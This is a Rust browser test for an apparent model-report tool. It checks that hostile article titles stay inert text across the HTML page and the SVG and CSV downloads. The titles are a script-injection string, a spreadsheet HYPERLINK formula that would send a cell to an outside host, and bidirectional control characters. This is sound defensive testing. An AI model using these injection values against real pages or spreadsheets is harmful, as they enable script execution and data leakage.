//! Titles that would be markup, or would turn their neighbours around, from the corpus to the page: text
//! everywhere, and nothing runs.
#![allow(clippy::unwrap_used, reason = "tests say what they expect by failing")]

use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use midashi_artifacts::Split;
use midashi_tests::browser::{Browser, installed, tell};
use midashi_tests::{Corpus, Run, STAGES, folder};
use roxmltree::{Document, ParsingOptions};
use serde_json::json;

const MARKUP: &str = "<script>alert(1)</script>\"'&";
/// A link that a spreadsheet would make, and that would send the cell A1 to a stranger.
const FORMULA: &str = "=HYPERLINK(\"http://a/?\"&A1)";
/// A direction that is never taken back, an isolate that is never closed, a family of three joined by ZWJ.
const BIDI: &str = "右から\u{202E}左へ\u{2066}孤立👨\u{200D}👩\u{200D}👧と\u{200B}結合";

/// What the button `button` saves into `folder`; only one file at a time is there.
fn saved(browser: &mut Browser, folder: &Path, button: &str) -> String {
    let _ = fs::remove_dir_all(folder);
    fs::create_dir_all(folder).unwrap();
    browser.call("Page.setDownloadBehavior", &json!({"behavior": "allow", "downloadPath": folder}));
    browser.click(button);
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let files = fs::read_dir(folder).unwrap().map(|file| file.unwrap().path());
        let done = files.into_iter().find(|file| file.extension().is_some_and(|end| end != "crdownload"));
        // Chromium reserves the name with an empty file before it writes the content.
        if let Some(saved) =
            done.map(|file| fs::read_to_string(file).unwrap()).filter(|text| !text.is_empty())
        {
            return saved;
        }
        assert!(Instant::now() < deadline, "{button} saves nothing");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// All that a picture says; that it can be read says that no text broke out of its element.
fn words_of(svg: &str) -> Vec<String> {
    let svg = Document::parse(svg).unwrap();
    assert!(svg.descendants().all(|node| !node.has_tag_name("script")));
    let texts = svg.descendants().filter(|node| node.has_tag_name("text") || node.has_tag_name("title"));
    texts.filter_map(|node| node.text().map(str::to_owned)).collect()
}

#[test]
fn hostile_titles_are_text_from_the_corpus_to_the_page() {
    let folder = folder();
    // Three of five articles of each category.
    let corpus = Corpus::sample().titles(|number| [MARKUP, BIDI, FORMULA].get(number % 5).copied());
    let run = Run::sample(folder.path().join("artifacts"), "hostile")
        .small_model()
        .reads(&corpus.write(folder.path().join("corpus")))
        .set(
            "train.epochs=1 evaluate.baseline=false evaluate.explain.texts=all \
             evaluate.explain.faithfulness_texts=40 evaluate.explain.matrices=40",
        );
    run.stages(&STAGES);

    let corpus = run.corpus();
    let with = |title: &str, split| {
        corpus.articles.iter().filter(|article| article.title == title && article.split == split).count()
    };
    let [markup, bidi] = [MARKUP, BIDI].map(|title| with(title, Split::Test));
    assert!(markup > 20 && bidi > 20 && with(MARKUP, Split::Train) > 100 && with(BIDI, Split::Train) > 100);
    let html = run.text("report.html");
    let options = ParsingOptions { allow_dtd: true, ..ParsingOptions::default() };
    let page = Document::parse_with_options(&html, options).unwrap();
    let scripts = page.descendants().filter(|node| node.has_tag_name("script")).count();
    let shown = page.descendants().filter_map(|node| node.text());
    assert!(shown.filter(|text| *text == MARKUP).count() > 5, "where no script runs");

    let Some(program) = installed() else {
        tell("SKIPPED hostile titles in a browser: no Chromium in PATH, none in CHROMIUM");
        return;
    };
    let mut browser = Browser::start(&program, (1280, 800));
    let downloads = folder.path().join("downloads");
    browser.open(&run.artifact("report.html"), "#texts?source=all_attention", "explorer");
    let of_list = "document.getElementById('count').textContent";
    let of_text = "document.querySelector('#detail .tokens').textContent";
    browser.choose("view", "search", "alert(1)");
    assert!(browser.text(of_list).starts_with(&format!("{markup} of ")), "{}", browser.text(of_list));
    assert_eq!(browser.text("document.querySelector('#list .tokens').textContent"), MARKUP);
    assert_eq!(browser.text(of_text), MARKUP);
    browser.click("input[name=weighted]");
    browser.wait_until("document.querySelectorAll('#all-heads canvas').length === 4");
    browser.click("#all-heads [role=radio]");
    browser.wait_until("document.querySelector('#all-heads [aria-checked=true]') !== null");
    assert_eq!(words_of(&saved(&mut browser, &downloads, "#save-matrix"))[0], MARKUP);
    assert_eq!(words_of(&saved(&mut browser, &downloads, "#save-heads"))[0], MARKUP);
    assert_eq!(words_of(&saved(&mut browser, &downloads, "#save-svg"))[0], MARKUP);
    let field = format!("\"{}\"", MARKUP.replace('"', "\"\""));
    let list = saved(&mut browser, &downloads, "#save-csv");
    assert!(list.lines().skip(1).all(|line| line.ends_with(&field)), "{list}");
    assert!(saved(&mut browser, &downloads, "#save-weights").contains("script"));

    browser.choose("view", "search", "孤立");
    browser.wait_until(&format!("{of_text}.startsWith('右から')"));
    browser.evaluate("document.activeElement.blur()");
    browser.click("input[name=weighted]");
    assert!(browser.text(of_list).starts_with(&format!("{bidi} of ")), "{}", browser.text(of_list));
    browser.click("input[name=weighted]");
    browser.wait_until("document.querySelectorAll('#all-heads canvas').length === 4");
    // Each piece of the text and each token is a direction of its own, and what has no shape has its code point.
    let isolated = "[...document.querySelectorAll('#detail .piece')].every((piece) =>
        getComputedStyle(piece).unicodeBidi === 'isolate')";
    assert_eq!(browser.evaluate(isolated), true);
    let matrix = words_of(&saved(&mut browser, &downloads, "#save-matrix"));
    assert_eq!(matrix[0], BIDI);
    let turning = |text: &String| text.contains(['\u{202E}', '\u{2066}', '\u{200B}']);
    assert!(!matrix[1..].iter().any(turning), "{matrix:?}");
    assert_eq!(words_of(&saved(&mut browser, &downloads, "#save-svg"))[0], BIDI);
    assert!(saved(&mut browser, &downloads, "#save-csv").lines().skip(1).all(|line| line.ends_with(BIDI)));

    browser.choose("view", "search", "HYPERLINK");
    browser.wait_until(&format!("{of_text}.startsWith('=HYPERLINK')"));
    let list = saved(&mut browser, &downloads, "#save-csv");
    let cell = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
    assert!(list.lines().count() > 5 && list.lines().skip(1).all(|line| line.ends_with(&cell)), "{list}");
    let weights = saved(&mut browser, &downloads, "#save-weights");
    assert!(weights.contains("'=") && !weights.lines().any(|line| line.starts_with('=')), "{weights}");

    assert_eq!(browser.evaluate("document.scripts.length"), scripts);
    assert_eq!(browser.complaints(), [""; 0]);
}
